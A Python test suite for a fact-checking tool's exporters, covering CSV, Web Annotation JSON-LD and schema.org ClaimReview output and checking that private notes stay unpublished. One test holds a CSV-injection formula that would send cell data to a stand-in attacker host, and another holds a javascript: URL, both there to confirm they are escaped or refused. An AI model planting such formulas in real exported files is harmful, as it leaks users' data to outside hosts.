"""Claims in forms that other programs read: each by its standard's own rules, and read back."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pyld import jsonld
from sqlite_utils import Database

from claimcheck.export.annotations import selectors
from claimcheck.export.as_csv import COLUMNS, escaped, unescaped
from claimcheck.models import CopyAction, Person, Review, ReviewVerdict, Role, Span
from claimcheck.store import Store
from conftest import Run

ARTICLE = "claims/wagner-leaves-mali.md"
Json = dict[str, Any]


@pytest.fixture(scope="module")
def decided(example: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example with four claims signed off, one proposed, one signed off and reopened, and one taken back."""
    folder = shutil.copytree(example, tmp_path_factory.mktemp("decided") / "workspace")
    with Store(folder / "claimcheck.db") as store:
        claims = {record.status.n: record for record in store.claims.all(ARTICLE)}

        def propose(n: int, verdict: ReviewVerdict, said: ReviewVerdict | None = None) -> str:
            record = claims[n]
            when = f"2025-06-1{n % 9}T08:00:00Z"
            note = "off the record: he was not there"
            store.reviews.propose(
                Review(record.status.id, verdict, "Ines", note, str(record.basis), when, said, CopyAction.FIX)
            )
            return record.status.id

        chosen = [
            propose(5, ReviewVerdict.WRONG, ReviewVerdict.WRONG),
            propose(6, ReviewVerdict.UNPROVEN, ReviewVerdict.CONFIRMED),
            propose(14, ReviewVerdict.CONFIRMED),
            propose(18, ReviewVerdict.MISLEADING),
            propose(20, ReviewVerdict.WRONG),
        ]
        propose(16, ReviewVerdict.DISPUTED)
        store.reviews.undo(propose(9, ReviewVerdict.CONFIRMED), "Ines")
        store.people.keep(Person("Jonas", Role.EDITOR))
        for claim in chosen:
            store.reviews.sign(claim, "Jonas", at_utc="2025-06-20T09:00:00Z")
        store.reviews.reopen(chosen[-1], "Jonas")
    return folder


def table(claimcheck: Run, folder: Path, *arguments: str) -> list[dict[str, str]]:
    printed = claimcheck("-w", folder, "export", "csv", *arguments).stdout_bytes.decode()
    return [{name: unescaped(cell) for name, cell in row.items()} for row in csv.DictReader(io.StringIO(printed))]


def test_csv_reads_back(decided: Path, claimcheck: Run, tmp_path: Path) -> None:
    """By Python's reader and by sqlite-utils: a line for each claim, with what the status table says."""
    rows = table(claimcheck, decided)
    with Store(decided / "claimcheck.db") as store:
        shown = [record.status for record in store.claims.all()]
    assert [row["id"] for row in rows] == [status.id for status in shown]
    assert [row["claim"] for row in rows] == [status.claim for status in shown]
    assert [row["flag"] or None for row in rows] == [status.flag for status in shown]
    assert {row["stage"] for row in rows} == {"open", "proposed", "signed", "reopened"}
    assert claimcheck("-w", decided, "export", "csv", "--bom", "-o", tmp_path / "t.csv").exit_code == 0
    database = Database(memory=True)
    with (tmp_path / "t.csv").open("rb") as file:
        from sqlite_utils.utils import rows_from_file

        database["claims"].insert_all(rows_from_file(file, encoding="utf-8-sig")[0])  # type: ignore[union-attr]
    assert database["claims"].count == len(shown)
    assert tuple(database["claims"].columns_dict) == (*COLUMNS, "head")


def test_csv_follows_rfc_4180(decided: Path, claimcheck: Run) -> None:
    """Lines end in CRLF, and every line has as many fields as there are names."""
    printed = claimcheck("-w", decided, "export", "csv", decided / ARTICLE).stdout_bytes.decode()
    assert printed.endswith("\r\n")
    assert {len(row) for row in csv.reader(io.StringIO(printed), strict=True)} == {len(COLUMNS) + 1}


@pytest.mark.parametrize("sign", list("=+-@\t\r\n＝＋－＠"))
def test_no_cell_is_a_formula(sign: str) -> None:
    """What OWASP lists under CSV injection: an apostrophe goes before it, and comes off again."""
    value = f'{sign}HYPERLINK("https://evil.example/?"&A1)'
    assert escaped(value) == f"'{value}"
    assert unescaped(escaped(value)) == value


@given(st.text(alphabet=st.one_of(st.sampled_from("'=+-@\t\r\n \",;"), st.characters(codec="utf-8"))))
def test_any_value_comes_back_from_a_cell(value: str) -> None:
    """Escaping loses nothing, and leaves nothing to run at the beginning of a cell."""
    written = io.StringIO(newline="")
    csv.writer(written).writerow([escaped(value), "next"])
    (row,) = csv.reader(io.StringIO(written.getvalue(), newline=""))
    assert unescaped(row[0]) == value
    assert not row[0].startswith(tuple("=+-@\t\r\n"))


@pytest.fixture(scope="module")
def collection(decided: Path, claimcheck: Run) -> Json:
    return json.loads(claimcheck("-w", decided, "export", "annotations", decided / ARTICLE).stdout_bytes)


@pytest.fixture(scope="module")
def annotations(collection: Json) -> list[Json]:
    return collection["first"]["items"]


MOTIVATIONS = set(
    "assessing bookmarking classifying commenting describing editing highlighting identifying linking moderating"
    " questioning replying reviewing tagging".split()
)
_IRI = re.compile(r"[a-z][a-z0-9+.-]*:[^\s<>\"{}|\\^`]+")
_DATE_TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z")


def parts(annotation: Json, key: str) -> list[Json]:
    value = annotation[key]
    return value if isinstance(value, list) else [value]


def test_the_collection_is_one(collection: Json) -> None:
    """Web Annotation Data Model, 5.1 and 5.2: what collections and pages have to have."""
    assert collection["@context"] == "http://www.w3.org/ns/anno.jsonld"
    assert collection["type"] == "AnnotationCollection"
    assert _IRI.fullmatch(collection["id"])
    page = collection["first"]
    assert page["type"] == "AnnotationPage"
    assert "@context" not in page
    assert (page["partOf"], page["startIndex"]) == (collection["id"], 0)
    assert collection["last"] == page["id"]
    assert collection["total"] == len(page["items"]) > 21


def test_every_annotation_is_one(annotations: list[Json]) -> None:
    """3.1: one IRI, the type, one target or more; 3.3.5: motivations of the vocabulary; 3.2.4: one value of text."""
    assert len({each["id"] for each in annotations}) == len(annotations)
    for each in annotations:
        assert _IRI.fullmatch(each["id"])
        assert each["type"] == "Annotation"
        assert "@context" not in each
        assert parts(each, "target")
        assert each["motivation"] in MOTIVATIONS
        for body in parts(each, "body"):
            assert body["purpose"] in MOTIVATIONS
            assert body["type"] in ("TextualBody", "SpecificResource")
            assert isinstance(body["value" if body["type"] == "TextualBody" else "source"], str)
        assert each["generator"]["type"] == "Software"
        assert ("created" in each) == ("creator" in each)
        assert _DATE_TIME.fullmatch(each.get("created", "2025-01-01T00:00:00Z"))


def test_every_target_says_where_and_of_what(annotations: list[Json]) -> None:
    """4: one source; 4.3.1: a time state with a date or a cached copy; 4.2.4 and 4.2.5: what selectors have."""
    for each in annotations:
        for target in parts(each, "target"):
            assert target["type"] == "SpecificResource"
            assert _IRI.fullmatch(target["source"])
            assert target["state"]["type"] == "TimeState"
            assert all(_IRI.fullmatch(copy) for copy in target["state"]["cached"])
            assert _DATE_TIME.fullmatch(target["state"].get("sourceDate", "2025-01-01T00:00:00Z"))
            quote, position = target["selector"]
            assert (quote["type"], position["type"]) == ("TextQuoteSelector", "TextPositionSelector")
            assert {type(quote[name]) for name in ("exact", "prefix", "suffix")} == {str}
            assert 0 <= position["start"] < position["end"]


def test_selectors_select_the_words(decided: Path, annotations: list[Json]) -> None:
    """4.2.4: prefix, words and suffix stand once in the text; 4.2.5: and that is where the position says."""
    with Store(decided / "claimcheck.db") as store:
        texts = [store.documents.get(kept.digest).text for kept in store.documents.all()]
        texts += [store.documents.get(article.digest).text for article in store.articles.all()]
    count = 0
    for each in annotations:
        for target in parts(each, "target"):
            quote, position = target["selector"]
            found = [text for text in texts if resolved(text, quote) == [(position["start"], position["end"])]]
            assert found, quote
            assert found[0][position["start"] : position["end"]] == quote["exact"]
            count += 1
    assert count > 40


def resolved(text: str, quote: Json) -> list[tuple[int, int]]:
    """Where a text quote selector points, as a reader of annotations would find out."""
    before, exact = len(quote["prefix"]), quote["exact"]
    words = re.compile(f"(?={re.escape(quote['prefix'] + exact + quote['suffix'])})")
    return [(found.start() + before, found.start() + before + len(exact)) for found in words.finditer(text)]


@given(st.text(alphabet="ab \n😀", min_size=1, max_size=200), st.data())
def test_any_words_are_told_apart(text: str, data: st.DataObject) -> None:
    """However often the same words stand in a text, and whatever planes its characters are from."""
    start = data.draw(st.integers(0, len(text) - 1))
    end = data.draw(st.integers(start + 1, len(text)))
    quote, position = selectors(text, Span(start, end))
    assert resolved(text, quote) == [(start, end)] == [(position["start"], position["end"])]


def test_a_copy_from_a_web_archive_is_told(example: Path, claimcheck: Run, tmp_path: Path) -> None:
    """4.3.1: cached copies by address, and the date that the source is shown as of."""
    folder = shutil.copytree(example, tmp_path / "copied")
    with closing(sqlite3.connect(folder / "claimcheck.db", isolation_level=None)) as database:
        database.execute(
            "INSERT INTO retrievals (id, place, capture_id, retrieved_utc, is_unchanged, tried, memento_of,"
            " memento_utc, final_url, record_id, archive_file, archive_offset_bytes, archive_length_bytes,"
            " archive_digest)"
            " SELECT 'q' || substr(id, 2), place, id, '2026-01-02T00:00:00Z', 0, '', 'https://paper.example/',"
            " '2025-06-01T00:00:00Z', 'https://archive.example/' || id, id, 'x', 0, 1, 'sha256:'"
            " FROM captures WHERE document_id IS NOT NULL"
        )
    printed = json.loads(claimcheck("-w", folder, "export", "annotations", folder / ARTICLE).stdout_bytes)
    states = [each["target"]["state"] for each in printed["first"]["items"] if each["motivation"] == "linking"]
    assert {state["sourceDate"] for state in states} == {"2025-06-01T00:00:00Z"}
    for state in states:
        by_digest, copy = state["cached"]
        assert re.fullmatch(r"ni:///sha-256;[\w-]{43}", by_digest)
        assert copy.startswith("https://archive.example/k")


ANNO = {
    "oa": "http://www.w3.org/ns/oa#",
    "as": "http://www.w3.org/ns/activitystreams#",
    "dcterms": "http://purl.org/dc/terms/",
    "rdf": "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
    "id": "@id",
    "type": "@type",
    "Annotation": "oa:Annotation",
    "TextualBody": "oa:TextualBody",
    "SpecificResource": "oa:SpecificResource",
    "TextQuoteSelector": "oa:TextQuoteSelector",
    "TextPositionSelector": "oa:TextPositionSelector",
    "TimeState": "oa:TimeState",
    "AnnotationCollection": "as:OrderedCollection",
    "AnnotationPage": "as:OrderedCollectionPage",
    "Software": "as:Application",
    "Person": "http://xmlns.com/foaf/0.1/Person",
    **{name: f"oa:{name}" for name in MOTIVATIONS},
    "body": {"@type": "@id", "@id": "oa:hasBody"},
    "target": {"@type": "@id", "@id": "oa:hasTarget"},
    "source": {"@type": "@id", "@id": "oa:hasSource"},
    "selector": {"@type": "@id", "@id": "oa:hasSelector"},
    "state": {"@type": "@id", "@id": "oa:hasState"},
    "cached": {"@type": "@id", "@id": "oa:cachedSource"},
    "creator": {"@type": "@id", "@id": "dcterms:creator"},
    "generator": {"@type": "@id", "@id": "as:generator"},
    "motivation": {"@type": "@vocab", "@id": "oa:motivatedBy"},
    "purpose": {"@type": "@vocab", "@id": "oa:hasPurpose"},
    "items": {"@type": "@id", "@id": "as:items", "@container": "@list"},
    "partOf": {"@type": "@id", "@id": "as:partOf"},
    "first": {"@type": "@id", "@id": "as:first"},
    "last": {"@type": "@id", "@id": "as:last"},
    "format": "http://purl.org/dc/elements/1.1/format",
    "created": "dcterms:created",
    "value": "rdf:value",
    "start": "oa:start",
    "end": "oa:end",
    "exact": "oa:exact",
    "prefix": "oa:prefix",
    "suffix": "oa:suffix",
    "sourceDate": "oa:sourceDate",
    "name": "http://xmlns.com/foaf/0.1/name",
    "label": "http://www.w3.org/2000/01/rdf-schema#label",
    "total": "as:totalItems",
    "startIndex": "as:startIndex",
}
"""The terms of the Web Annotation vocabulary (its appendix A) that we write, as the W3C's context has them."""

SCHEMA = {"@vocab": "https://schema.org/", **{name: {"@type": "@id"} for name in ("url",)}}
"""As schema.org's context has it: every term is one of its own, and addresses are addresses."""


def expanded(value: Json) -> list[Json]:
    """The JSON-LD with every term written out, as any reader of it has it; terms of no vocabulary fall away."""
    contexts = {"http://www.w3.org/ns/anno.jsonld": ANNO, "https://schema.org": SCHEMA}

    def load(url: str, _options: object) -> Json:
        return {"contentType": "application/ld+json", "contextUrl": None, "documentUrl": url,
                "document": {"@context": contexts[url]}}  # fmt: skip

    return jsonld.expand(value, {"documentLoader": load})


def keys(value: object) -> Iterator[str]:
    if isinstance(value, dict):
        for name, inner in value.items():
            yield name
            yield from keys(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from keys(inner)


def test_annotations_are_json_ld(collection: Json) -> None:
    """Every term that we write is one of the vocabulary, and becomes triples about the same words."""
    assert set(keys(collection)) - {"@context", "https://schema.org/identifier"} <= ANNO.keys()
    (whole,) = expanded(collection)
    assert whole["@type"] == ["http://www.w3.org/ns/activitystreams#OrderedCollection"]
    exact = json.dumps(whole).count('"http://www.w3.org/ns/oa#exact": [{"@value"')
    assert exact == json.dumps(collection).count('"exact"')


def test_annotations_link_evidence_to_its_claim(collection: Json, annotations: list[Json]) -> None:
    """An annotation of evidence has that of its claim as a body; what a person decided names the person."""
    claims = {each["id"]: each for each in annotations if each["motivation"] == "assessing"}
    linked = [each["body"][0]["source"] for each in annotations if each["motivation"] == "linking"]
    assert linked
    assert set(linked) <= claims.keys()
    # Five were signed off and one proposed; what was taken back is nobody's decision.
    assert [each["creator"]["name"] for each in claims.values() if "creator" in each] == ["Ines"] * 6
    assert "off the record" not in json.dumps(collection)


PAGE = "https://paper.example/fact-checks/mali"
OPTIONS = ("--url", PAGE, "--publisher", "The Paper", "--publisher-url", "https://paper.example/")

DOMAIN = {
    "ClaimReview": {"claimReviewed", "identifier", "url", "author", "datePublished", "itemReviewed", "reviewRating"},
    "PropertyValue": {"propertyID", "value"},
    "Claim": {"author", "datePublished", "appearance"},
    "Rating": {"alternateName", "ratingValue", "bestRating", "worstRating"},
    "Organization": {"name", "url"},
    "Person": {"name", "jobTitle"},
    "CreativeWork": {"url", "headline", "datePublished", "publisher"},
}
"""Which properties each type has on schema.org, its own or of the types it is one of."""

REQUIRED = {
    "ClaimReview": {"claimReviewed", "reviewRating", "url"},
    "Rating": {"alternateName"},
    "Organization": {"name"},
    "Person": {"name"},
}
"""Required by Google's documentation of Fact Check (ClaimReview) structured data; names by schema.org's examples."""


def reviews(claimcheck: Run, folder: Path, *options: str) -> list[Json]:
    done = claimcheck("-w", folder, "export", "claimreview", *OPTIONS, *options)
    assert done.exit_code == 0
    graph = json.loads(done.stdout_bytes)
    assert graph["@context"] == "https://schema.org"
    return graph["@graph"]


def nodes(value: object) -> Iterator[Json]:
    if isinstance(value, dict):
        yield value
        for inner in value.values():
            yield from nodes(inner)


def test_claim_reviews_follow_schema_org(decided: Path, claimcheck: Run) -> None:
    """Types and properties are those of schema.org, what is required is there, and nothing falls away on expansion."""
    found = reviews(claimcheck, decided, "--label", "wrong=False", "--rating", "wrong=1", "--rating", "confirmed=5")
    for node in (node for review in found for node in nodes(review)):
        assert set(node) - {"@type", "@id"} <= DOMAIN[node["@type"]]
        assert set(node) >= REQUIRED.get(node["@type"], set())
    written_out = expanded({"@context": "https://schema.org", "@graph": found})
    assert len(written_out) == len(found)
    for review, node in zip(found, written_out, strict=True):
        assert node["@type"] == ["https://schema.org/ClaimReview"]
        assert node["https://schema.org/claimReviewed"] == [{"@value": review["claimReviewed"]}]
        assert node["https://schema.org/url"] == [{"@id": review["url"]}]


def test_only_what_is_signed_off_is_published(decided: Path, claimcheck: Run) -> None:
    """Not what is proposed or reopened; each with an anchor of its own, and no note, evidence or person in it."""
    found = reviews(claimcheck, decided)
    with Store(decided / "claimcheck.db") as store:
        claims = {record.status.n: record for record in store.claims.all(ARTICLE)}
    assert [each["url"] for each in found] == [f"{PAGE}#{claims[n].status.id}" for n in (5, 6, 14, 18)]
    assert {each["datePublished"] for each in found} == {"2025-06-20"}
    for secret in ("off the record", "Ines", "Jonas"):
        assert secret not in json.dumps(found)


def test_the_newsroom_has_its_own_words_and_scale(decided: Path, claimcheck: Run) -> None:
    """Labels stand in alternateName; numbers only where there is a scale, between its ends."""
    plain = [each["reviewRating"] for each in reviews(claimcheck, decided)]
    assert plain == [
        {"@type": "Rating", "alternateName": word} for word in ("Wrong", "Unproven", "Confirmed", "Misleading")
    ]
    rated = [
        each["reviewRating"]
        for each in reviews(
            claimcheck, decided, "--label", "wrong=Pants on fire", "--rating", "wrong=0", "--rating", "confirmed=4.5"
        )
    ]
    assert rated[0] == {
        "@type": "Rating",
        "alternateName": "Pants on fire",
        "ratingValue": 0,
        "bestRating": 4.5,
        "worstRating": 0,
    }
    assert rated[1] == {"@type": "Rating", "alternateName": "Unproven"}


def test_nobody_is_named_who_did_not_say_it(decided: Path, claimcheck: Run) -> None:
    """The author of a claim is its speaker, unless people found that they did not say it, or nobody can be named."""
    authors = [each["itemReviewed"].get("author", {}).get("name") for each in reviews(claimcheck, decided)]
    assert authors == [None, "Rida Lyammouri", None, None]


def test_with_nothing_signed_off_there_is_nothing_to_publish(example: Path, claimcheck: Run, tmp_path: Path) -> None:
    """One line, exit 1, and no file."""
    done = claimcheck("-w", example, "export", "claimreview", *OPTIONS, "-o", tmp_path / "reviews.json")
    assert done.exit_code == 1
    assert (
        done.stderr == "Error: no claim is signed off, and only those are published; `claimcheck sign` signs one off\n"
    )
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "options",
    [
        ("--url", "javascript:alert(1)"),
        ("--url", "https://"),
        ("--url", "http://[broken"),
        ("--publisher-url", "paper.example"),
        ("--label", "wrong"),
        ("--label", "false=False"),
        ("--label", "wrong= "),
        ("--rating", "wrong=low"),
        ("--rating", "wrong=nan"),
        ("--rating", "wrong=1"),
    ],
    ids=" ".join,
)
def test_what_makes_no_sense_is_refused(example: Path, claimcheck: Run, options: tuple[str, ...]) -> None:
    """Before anything is read, with how to say it."""
    done = claimcheck("-w", example, "export", "claimreview", *OPTIONS, *options)
    assert done.exit_code == 2
    assert options[0] in done.stderr


@pytest.mark.parametrize("kind", ["csv", "annotations", "html", "json"])
def test_the_same_case_makes_the_same_bytes(decided: Path, claimcheck: Run, tmp_path: Path, kind: str) -> None:
    """On standard output, in a file, and again."""
    printed = claimcheck("-w", decided, "export", kind).stdout_bytes
    assert claimcheck("-w", decided, "export", kind, "-o", tmp_path / "file").exit_code == 0
    assert (tmp_path / "file").read_bytes() == printed
    assert [path.name for path in tmp_path.iterdir()] == ["file"]


def test_a_pipe_is_written_into_and_a_link_stays_one(decided: Path, claimcheck: Run, tmp_path: Path) -> None:
    """Only a file is put in the place of a file."""
    whole = claimcheck("-w", decided, "export", "csv").stdout_bytes
    pipe, link, file = tmp_path / "pipe", tmp_path / "link", tmp_path / "file"
    os.mkfifo(pipe)
    link.symlink_to(file)
    reader = os.open(pipe, os.O_RDONLY | os.O_NONBLOCK)
    assert claimcheck("-w", decided, "export", "csv", "-o", pipe).exit_code == 0
    assert pipe.is_fifo()
    with os.fdopen(reader, "rb") as stream:
        assert stream.read() == whole
    assert claimcheck("-w", decided, "export", "csv", "-o", link).exit_code == 0
    assert link.is_symlink()
    assert file.read_bytes() == whole


@pytest.mark.parametrize("kind", ["csv", "annotations", "html", "claimreview"])
def test_an_article_that_is_not_there_is_told(example: Path, claimcheck: Run, kind: str) -> None:
    """In one line."""
    options = OPTIONS if kind == "claimreview" else ()
    done = claimcheck("-w", example, "export", kind, example / "claims" / "none.md", *options)
    assert done.exit_code == 1
    assert "claims/none.md: no such article" in done.stderr


def test_json_lines_tell_what_people_decided(decided: Path, claimcheck: Run) -> None:
    """Stage, signer and both answers, beside what the machine suggests."""
    printed = claimcheck("-w", decided, "status", "--json", decided / ARTICLE).stdout.splitlines()
    claims = [json.loads(line) for line in printed]
    assert [(claim["article"], claim["n"]) for claim in claims] == [(ARTICLE, n + 1) for n in range(len(claims))]
    fifth = claims[4]
    assert (fifth["stage"], fifth["signer"], fifth["checker"], fifth["copy"]) == ("signed", "Jonas", "Ines", "fix")
    assert [(review["verdict"], review["said"]) for review in fifth["reviews"]] == [("wrong", "wrong")]
    assert fifth["said"]["finding"] == "contradicted"
    assert (claims[0]["stage"], claims[0]["signer"]) == ("open", None)
